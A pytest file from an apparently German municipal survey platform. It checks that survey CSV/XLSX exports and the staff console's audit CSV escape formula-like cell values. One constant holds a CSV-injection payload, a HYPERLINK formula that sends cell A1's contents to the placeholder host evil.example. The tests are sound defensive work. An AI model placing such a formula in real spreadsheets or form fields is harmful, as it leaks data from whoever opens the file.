"""Spreadsheet formulas: what a citizen or an applicant typed is never run when a clerk or state
staff opens an export (survey CSV and XLSX, the console's audit CSV)."""

import csv
import io
import uuid
import zipfile

import openpyxl
import pytest
from django.test import Client
from django_tenants.utils import schema_context

from platform_core.spreadsheets import safe_cell
from surveys.models import Question, SurveyExport
from surveys.selectors import all_questions, survey_structure
from surveys.services import question_save, response_submit, survey_create, survey_export_request, survey_publish
from tests.tenants.conftest import PORTAL, make_staff, staff_login

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Klick")'


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+49 561 123", "'+49 561 123"),
        ("-5 Grad", "'-5 Grad"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Gut so", "Gut so"),
        ("", ""),
        (-5, -5),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def _export(kassel, fmt: str, capture) -> bytes:
    with schema_context(kassel.schema_name):
        survey = survey_create(title=f"Formeln {uuid.uuid4().hex[:6]}")
        section = survey.sections.get()
        for code, kind in (("text", Question.Kind.SHORT_TEXT), ("zahl", Question.Kind.NUMBER)):
            question_save(question=Question(survey=survey, section=section, kind=kind, code=code, text=code))
        survey_publish(survey=survey)
        questions = all_questions(survey_structure(survey))
        by_code = {q.code: q for q in questions}
        response_submit(
            survey=survey,
            questions=questions,
            token=uuid.uuid4(),
            answers={str(by_code["text"].pk): FORMULA, str(by_code["zahl"].pk): "-5"},
        )
        with capture(execute=True):
            export = survey_export_request(survey=survey, format=fmt)
        export.refresh_from_db()
        assert export.status == SurveyExport.Status.DONE, export.error
        with export.file.open("rb") as handle:
            return handle.read()


def test_csv_export_writes_a_formula_as_text(kassel, django_capture_on_commit_callbacks):
    content = _export(kassel, "csv", django_capture_on_commit_callbacks).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(content), delimiter=";"))
    cells = dict(zip(header, row, strict=True))
    assert cells["text"] == "'" + FORMULA
    assert cells["zahl"] == "-5"  # a number typed as a number stays a number


def test_xlsx_export_has_no_formula_cell(kassel, django_capture_on_commit_callbacks):
    content = _export(kassel, "xlsx", django_capture_on_commit_callbacks)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert row["text"].value == FORMULA and row["text"].data_type == "s"
    assert row["zahl"].value == -5 and row["zahl"].data_type == "n"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_console_audit_csv_writes_a_formula_as_text(db):
    from platform_core import audit

    audit.log("registration.created", actor=FORMULA, note="ok")
    user, device = make_staff(f"pruefer-{uuid.uuid4().hex[:6]}@hessen.example")
    client = Client(HTTP_HOST=PORTAL)
    staff_login(client, user, device)
    response = client.get("/konsole/protokoll/?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert ["'" + FORMULA] in [[r[2]] for r in rows[1:]]
